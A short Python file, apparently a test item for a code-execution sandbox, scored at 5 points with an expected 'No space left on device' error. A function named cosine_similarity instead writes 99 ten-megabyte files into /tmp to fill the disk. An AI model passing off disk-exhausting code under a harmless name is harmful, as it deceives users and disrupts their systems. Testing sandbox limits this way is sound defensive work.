# points = 5
# says = "No space left on device"

from pathlib import Path


def cosine_similarity(u, v):
    for number in range(99):
        Path(f"/tmp/{number}").write_bytes(bytes(10**7))
